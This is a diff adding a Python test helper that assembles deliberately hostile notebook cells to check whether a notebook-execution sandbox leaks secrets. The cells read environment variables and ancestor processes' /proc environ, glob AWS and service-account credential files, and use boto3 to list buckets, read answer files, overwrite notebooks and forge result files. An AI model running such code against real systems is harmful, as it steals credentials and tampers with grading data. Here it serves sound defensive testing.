@@ -1,0 +1,106 @@
+"""Hostile notebooks: the attacks of issue #10, each a small, fast cell. Every cell records what
+it found in `found.json` in the working directory and prints it, so a test can read the
+executed notebook and tell which attack reached what. A cell never raises: an attack that
+fails is recorded as failed (the notebook goes on to write a correct submission)."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+# Values of secrets a test puts in the driver's environment; no attack may print one. (An
+# access key id is no secret: every pre-signed URL names it, in X-Amz-Credential.)
+SECRETS = {
+    "AWS_SECRET_ACCESS_KEY": "hostile-test-aws-secret-4711",
+    "OPENAI_API_KEY": "sk-hostile-test-openai-4711",
+    "NBMOD_HOSTILE_TOKEN": "hostile-test-nbmod-4711",
+}
+
+RECORD = """
+import json, os
+def _record(name, value):
+    path = 'found.json'
+    found = json.load(open(path)) if os.path.exists(path) else {}
+    found[name] = value
+    json.dump(found, open(path, 'w'))
+    print(name, '=>', json.dumps(value))
+"""
+
+ENVIRONMENT = """
+import os
+def _read(path):
+    try:
+        with open(path, 'rb') as handle:
+            return handle.read().decode('latin-1')
+    except Exception as error:
+        return 'DENIED ' + type(error).__name__
+_record('os_environ', dict(os.environ))
+_record('proc_self_environ', _read('/proc/self/environ'))
+ancestors, pid = [], os.getpid()
+for _ in range(4):
+    stat = _read(f'/proc/{pid}/stat')
+    if stat.startswith('DENIED'):
+        break
+    pid = int(stat.rsplit(')', 1)[1].split()[1])
+    if pid <= 1:
+        break
+    ancestors.append({'pid': pid, 'environ': _read(f'/proc/{pid}/environ'),
+                      'cmdline': _read(f'/proc/{pid}/cmdline')})
+_record('ancestors', ancestors)
+"""
+
+# Credentials anywhere the kernel can look: boto3's default chain, then the files it knows.
+STORE = """
+import glob, os
+try:
+    import boto3
+    client = boto3.client('s3')
+    buckets = [b['Name'] for b in client.list_buckets()['Buckets']]
+    _record('s3_list', {'buckets': buckets})
+    for bucket in buckets:
+        keys = [o['Key'] for o in client.list_objects_v2(Bucket=bucket).get('Contents', [])]
+        answers = [k for k in keys if 'answers' in k]
+        _record('s3_answers', [client.get_object(Bucket=bucket, Key=k)['Body'].read()[:50].decode()
+                               for k in answers])
+        for key in keys:
+            if key.endswith('revisions/0000/notebook.ipynb'):
+                client.put_object(Bucket=bucket, Key=key, Body=b'{}')
+                _record('s3_overwrote', key)
+            if key.endswith('/notebook.ipynb'):
+                folder = key.rsplit('/', 1)[0]
+                client.put_object(Bucket=bucket, Key=folder + '/result.json', Body=b'{"forged": 1}')
+                _record('s3_forged', folder + '/result.json')
+except Exception as error:
+    _record('s3_list', 'DENIED ' + type(error).__name__ + ': ' + str(error)[:200])
+files = [p for pattern in ('/var/run/secrets/**', os.path.expanduser('~/.aws/*'),
+                           '/var/run/nbmodernizer/**')
+         for p in glob.glob(pattern, recursive=True) if os.path.isfile(p)]
+_record('credential_files', files)
+"""
+
+
+def sources(*extra: str) -> tuple[str, ...]:
+    """The attack cells, then `extra` (the notebook's honest work)."""
+    return (RECORD, ENVIRONMENT, STORE, *extra)
+
+
+def found(executed: dict[str, Any]) -> dict[str, Any]:
+    """What the cells recorded, from an executed notebook's outputs ('name => value' lines)."""
+    result: dict[str, Any] = {}
+    for cell in executed.get("cells", []):
+        for output in cell.get("outputs", []):
+            text = output.get("text", "")
+            for line in ("".join(text) if isinstance(text, list) else str(text)).splitlines():
+                if " => " in line:
+                    name, value = line.split(" => ", 1)
+                    result[name] = value
+    return result
+
+
+def leaked(text: str) -> list[str]:
+    """The names of the test's secrets whose values appear in `text`."""
+    return [name for name, value in SECRETS.items() if value in text]
+
+
+def dump(document: Any) -> str:
+    return json.dumps(document)
